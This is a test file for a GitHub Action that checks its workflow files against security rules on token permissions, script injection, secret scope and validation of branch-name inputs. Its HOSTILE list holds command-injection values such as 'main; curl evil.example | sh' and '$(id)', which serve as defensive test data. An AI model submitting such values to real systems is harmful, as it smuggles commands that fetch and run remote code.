/**
 * The workflows users copy (examples/) and the project's own (.github/workflows/) pass what a reviewer of GitHub
 * workflows checks. The rules, and where they come from:
 * - Least-privilege token: a `permissions:` on the workflow or on every job, read-only except `pull-requests:
 *   write` in a job that comments with this action; never `write-all`/`read-all`. GitHub: "any permission that is
 *   absent from the list will be set to none" (changelog 2021-04-20, "control permissions for GITHUB_TOKEN";
 *   docs.github.com "Controlling permissions for GITHUB_TOKEN"); zizmor audit `excessive-permissions`.
 * - No `${{ }}` inside `run:`: the expression is pasted into the script before the shell reads it, so a value can
 *   become code. GitHub's "Security hardening for GitHub Actions", "Understanding the risk of script injections"
 *   and "Using an intermediate environment variable" (docs.github.com/en/actions/reference/security/secure-use);
 *   CodeQL `actions/code-injection`; zizmor audit `template-injection`.
 * - Secrets only in a step's `with:` or `env:`, so they reach only the step that needs them (GitHub's hardening
 *   guide, "Using secrets"; zizmor audits `overprovisioned-secrets` and `secrets-outside-env`; zizmor's
 *   `secrets-outside-env` asks for a deployment environment, which this test does not require).
 * - A dispatch input that names a branch is checked by a step before the first step that uses it (or is a
 *   `type: choice`). This test runs that step's script under bash with hostile values and requires it to fail.
 *   Neon's branch names: the OpenAPI spec (BranchCreateRequest and BranchUpdateRequest `branch.name`) gives
 *   minLength 1 and maxLength 256 and no character set; the characters allowed here are this project's choice.
 */
import { spawnSync } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { parse } from 'yaml'

type Permissions = string | Record<string, string>
type Env = Record<string, unknown>
interface Step {
  uses?: string
  with?: Record<string, unknown>
  env?: Env
  run?: string
}
interface Job {
  permissions?: Permissions
  env?: Env
  steps?: Step[]
}
interface DispatchInput {
  description?: string
  type?: string
  default?: unknown
}
interface Workflow {
  on?: { workflow_dispatch?: { inputs?: Record<string, DispatchInput> } | null }
  permissions?: Permissions
  env?: Env
  jobs: Record<string, Job>
}

/** This action in a `uses:` line: the root or a sub-action (./snapshot, neon-recovery/neon-recovery-action/snapshot@v1). */
const THIS_ACTION = /^(\.\/|neon-recovery\/neon-recovery-action(\/[\w-]+)?@)/
const EXPRESSION = /\$\{\{\s*(.*?)\s*\}\}/g
const BRANCH_LIKE = 'release/2026.12_hotfix-1'
/** The name Neon gives the branch a snapshot restore replaces (neon-notes.md: finalize_restore). */
const OLD_BRANCH = 'main (old)'
/** Values a branch check must refuse: shell syntax, an option, a newline, a quote, one character too many. */
const HOSTILE = ['main; curl evil.example | sh', '$(id)', '`id`', 'main\nid', '-rf', "it's", 'a'.repeat(257)]

const commentsWithThisAction = (job: Job) =>
  (job.steps ?? []).some((step) => step.uses && THIS_ACTION.test(step.uses) && String(step.with?.comment) === 'true')

function permissionProblems(workflow: Workflow): string[] {
  return Object.entries(workflow.jobs).flatMap(([id, job]) => {
    const permissions = job.permissions ?? workflow.permissions
    if (permissions === undefined) return [`job ${id}: no permissions: (add permissions: contents: read)`]
    if (typeof permissions === 'string') return [`job ${id}: permissions: ${permissions} (list the scopes)`]
    return Object.entries(permissions)
      .filter(([scope, level]) => level === 'write' && !(scope === 'pull-requests' && commentsWithThisAction(job)))
      .map(([scope]) => `job ${id}: ${scope}: write (only pull-requests: write, in a job that comments)`)
  })
}

function runProblems(workflow: Workflow): string[] {
  return Object.entries(workflow.jobs).flatMap(([id, job]) =>
    (job.steps ?? [])
      .filter((step) => step.run?.includes('${{'))
      .map((step) => `job ${id}: \${{ }} in run: ${JSON.stringify(step.run)} (pass it through env:)`)
  )
}

/** Everything but the `with:` and `env:` of steps, where a secret may appear. */
function outsideStepInputs(workflow: Workflow): unknown {
  const jobs = Object.fromEntries(
    Object.entries(workflow.jobs).map(([id, job]) => [
      id,
      { ...job, steps: (job.steps ?? []).map((step) => ({ ...step, with: undefined, env: undefined })) }
    ])
  )
  return { ...workflow, jobs }
}

function secretProblems(workflow: Workflow): string[] {
  const found = JSON.stringify(outsideStepInputs(workflow)).match(/secrets(\.[\w-]+|\[[^\]]*\])/g) ?? []
  return found.map((secret) => `${secret} outside a step's with: or env: (move it into the step that needs it)`)
}

const refersTo = (name: string, value: unknown) =>
  new RegExp(`(^|[^\\w.-])(github\\.event\\.)?inputs\\.${name}(?![\\w-])`).test(JSON.stringify(value ?? ''))

/** The dispatch inputs, by name, whose name or description names a branch and that are free text. */
function branchInputs(workflow: Workflow): Record<string, DispatchInput> {
  const inputs = Object.entries(workflow.on?.workflow_dispatch?.inputs ?? {})
  return Object.fromEntries(
    inputs.filter(([name, input]) => /branch/i.test(`${name} ${input.description ?? ''}`) && input.type !== 'choice')
  )
}

/** The step's env with each `${{ inputs.<name> }}` replaced by the input's default, `name` by `value`. */
function envFor(step: Step, inputs: Record<string, DispatchInput>, name: string, value: string): Env {
  const env = Object.entries(step.env ?? {}).map(([key, raw]) => {
    const text = String(raw).replace(EXPRESSION, (_, expression: string) => {
      const input = /^inputs\.([\w-]+)$/.exec(expression)?.[1]
      if (input === name) return value
      return input ? String(inputs[input]?.default ?? '') : ''
    })
    return [key, text]
  })
  return Object.fromEntries(env)
}

/** Runs the step's script as GitHub's bash shell does (bash -e -o pipefail) with `name` set to `value`. */
function accepts(step: Step, inputs: Record<string, DispatchInput>, name: string, value: string): boolean {
  const env = { PATH: process.env.PATH, ...envFor(step, inputs, name, value) }
  const shell = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run ?? ''], {
    env: env as NodeJS.ProcessEnv,
    stdio: 'ignore',
    timeout: 5000
  })
  return shell.status === 0
}

function checkProblems(inputs: Record<string, DispatchInput>, name: string, step: Step) {
  const passesThroughEnv = Object.values(step.env ?? {}).some(
    (value) => String(value).trim() === `\${{ inputs.${name} }}`
  )
  if (step.uses || !step.run || !passesThroughEnv) {
    return [`inputs.${name} is used before a run: step checks it (add one with env: NAME: \${{ inputs.${name} }})`]
  }
  const good = [
    BRANCH_LIKE,
    OLD_BRANCH,
    'a'.repeat(256),
    ...(inputs[name].default === undefined ? [] : [inputs[name].default])
  ]
  return [
    ...good.filter((value) => !accepts(step, inputs, name, String(value))).map((v) => `check refuses ${name}=${v}`),
    ...HOSTILE.filter((value) => accepts(step, inputs, name, value)).map((v) => `check accepts ${name}=${v}`)
  ]
}

function dispatchProblems(workflow: Workflow): string[] {
  const inputs = branchInputs(workflow)
  const all = workflow.on?.workflow_dispatch?.inputs ?? {}
  return Object.keys(inputs).flatMap((name) =>
    Object.values(workflow.jobs).flatMap((job) => {
      const first = (job.steps ?? []).find((step) => refersTo(name, step))
      return first ? checkProblems(all, name, first) : []
    })
  )
}

function problems(text: string): string[] {
  const workflow = parse(text) as Workflow
  return [
    ...permissionProblems(workflow),
    ...runProblems(workflow),
    ...secretProblems(workflow),
    ...dispatchProblems(workflow)
  ]
}

const workflows = [
  ...readdirSync('examples').map((file) => path.join('examples', file)),
  ...readdirSync('.github/workflows').map((file) => path.join('.github/workflows', file))
].filter((file) => /\.ya?ml$/.test(file))

test.each(workflows)('%s passes the security rules', (file) => {
  expect(problems(readFileSync(file, 'utf8'))).toEqual([])
})

describe('each rule fails a workflow that breaks it', () => {
  const CHECK = `
      - env:
          BRANCH: \${{ inputs.branch }}
        run: |
          name='^[A-Za-z0-9][A-Za-z0-9._/ ()-]{0,255}$'
          if ! [[ "$BRANCH" =~ $name ]]; then
            echo "::error::branch must be a branch name or id"; exit 1
          fi`
  const workflow = (options: { top?: string; job?: string; steps: string; inputs?: string }) => `
on:
  workflow_dispatch:
    inputs:
      branch:
        description: Branch to restore
        default: main
${options.inputs ?? ''}
${options.top ?? 'permissions:\n  contents: read'}
jobs:
  restore:
    runs-on: ubuntu-latest
${options.job ?? ''}
    steps:${options.steps}
`
  const USE = `
      - uses: neon-recovery/neon-recovery-action@v1
        with:
          api-key: \${{ secrets.NEON_API_KEY }}
          branch: \${{ inputs.branch }}`

  test('a compliant workflow passes (the fixtures below differ from it in one rule each)', () => {
    expect(problems(workflow({ steps: CHECK + USE }))).toEqual([])
  })

  test('no permissions', () => {
    expect(problems(workflow({ top: '', steps: CHECK + USE }))).toEqual([
      'job restore: no permissions: (add permissions: contents: read)'
    ])
  })

  test('write-all, a write scope, pull-requests: write without comment: true', () => {
    expect(problems(workflow({ top: 'permissions: write-all', steps: CHECK + USE }))).toHaveLength(1)
    expect(problems(workflow({ top: 'permissions:\n  contents: write', steps: CHECK + USE }))).toHaveLength(1)
    const prWrite = 'permissions:\n  pull-requests: write'
    expect(problems(workflow({ top: prWrite, steps: CHECK + USE }))).toHaveLength(1)
    expect(problems(workflow({ top: prWrite, steps: CHECK + USE + '\n          comment: true' }))).toEqual([])
  })

  test('a job-level permissions: replaces the workflow one and is judged on its own', () => {
    expect(problems(workflow({ job: '    permissions:\n      actions: write', steps: CHECK + USE }))).toHaveLength(1)
    expect(problems(workflow({ top: '', job: '    permissions: {}', steps: CHECK + USE }))).toEqual([])
  })

  test('${{ }} in run:', () => {
    const run = '\n      - run: echo "${{ steps.restore.outputs.backup-branch-name }}"'
    expect(problems(workflow({ steps: CHECK + USE + run }))).toHaveLength(1)
  })

  test('secrets in workflow-level env, job-level env or a run: script', () => {
    const env = 'env:\n  NEON_API_KEY: ${{ secrets.NEON_API_KEY }}\npermissions:\n  contents: read'
    expect(problems(workflow({ top: env, steps: CHECK + USE }))).toHaveLength(1)
    const jobEnv = '    env:\n      KEY: ${{ secrets.NEON_API_KEY }}'
    expect(problems(workflow({ job: jobEnv, steps: CHECK + USE }))).toHaveLength(1)
    const ifSecret = "\n      - if: secrets['NEON_API_KEY'] != ''\n        run: echo configured"
    expect(problems(workflow({ steps: CHECK + USE + ifSecret }))).toEqual([
      "secrets['NEON_API_KEY'] outside a step's with: or env: (move it into the step that needs it)"
    ])
  })

  test('a branch input used with no check before it', () => {
    expect(problems(workflow({ steps: USE }))).toEqual([
      'inputs.branch is used before a run: step checks it (add one with env: NAME: ${{ inputs.branch }})'
    ])
    expect(problems(workflow({ steps: USE + CHECK }))).toHaveLength(1)
  })

  test('a check that lets hostile values through', () => {
    const weak = CHECK.replace('^[A-Za-z0-9][A-Za-z0-9._/ ()-]{0,255}$', '^[^[:space:]]+$')
    expect(problems(workflow({ steps: weak + USE }))).toEqual([
      // No spaces at all is also too strict for the name Neon gives a replaced branch.
      'check refuses branch=main (old)',
      'check accepts branch=$(id)',
      'check accepts branch=`id`',
      'check accepts branch=-rf',
      "check accepts branch=it's",
      `check accepts branch=${'a'.repeat(257)}`
    ])
  })

  test('a check that refuses a branch name Neon accepts', () => {
    const strict = CHECK.replace('{0,255}', '{0,62}')
    expect(problems(workflow({ steps: strict + USE }))).toEqual([`check refuses branch=${'a'.repeat(256)}`])
  })

  test('an input whose description names a branch is checked too; a choice is not', () => {
    const target = '      target:\n        description: The branch to copy from\n        default: main'
    const use = USE + '\n          source: ${{ inputs.target }}'
    expect(problems(workflow({ inputs: target, steps: CHECK + use }))).toHaveLength(1)
    const choice = target + '\n        type: choice\n        options: [main, staging]'
    expect(problems(workflow({ inputs: choice, steps: CHECK + use }))).toEqual([])
  })
})
